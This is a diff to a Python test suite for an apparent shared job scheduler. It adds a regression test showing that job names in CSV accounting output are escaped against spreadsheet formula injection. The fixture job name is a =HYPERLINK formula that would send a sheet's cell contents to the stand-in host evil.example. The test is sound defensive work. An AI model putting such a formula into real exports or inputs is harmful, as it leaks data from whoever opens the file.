@@ -7,6 +7,8 @@ nothing the client sends says who it is.  The tests check the owner of each job,
 `ps`'s filters, the redaction of others' jobs, and that every refusal names its rule."""
 import ast
 import contextlib
+import csv
+import io
 import json
 import os
 import shutil
@@ -332,6 +334,21 @@ def wait_state(c, job, states, timeout=30):
             return j
         assert time.monotonic() < deadline, "job %s not %s: %s" % (job, states, j)
         time.sleep(0.2)
+
+
+def test_acct_csv_shows_anothers_job_name_as_text(team):
+    """acct shows every user's job names; in --csv a name such as =HYPERLINK(...) ran as a
+    formula in the spreadsheet of whoever opened it (sending the sheet's cells away): now
+    such a field begins with "'" and a spreadsheet shows it as text."""
+    name = '=HYPERLINK("https://evil.example/?"&A1,"ok")'
+    job = submit(team, ALICE, "true", name=name)
+    wait_state(team, job, ("COMPLETED",))
+    p = as_user(team, BOB, "acct", "--csv")
+    assert p.returncode == 0, p.stderr
+    rows = list(csv.DictReader(io.StringIO(p.stdout)))
+    mine = [r for r in rows if r["id"] == job]
+    assert len(mine) == 1 and mine[0]["user"] == ALICE, p.stdout
+    assert mine[0]["name"] == "'" + name, mine
 
 
 def proc_ids(pid):
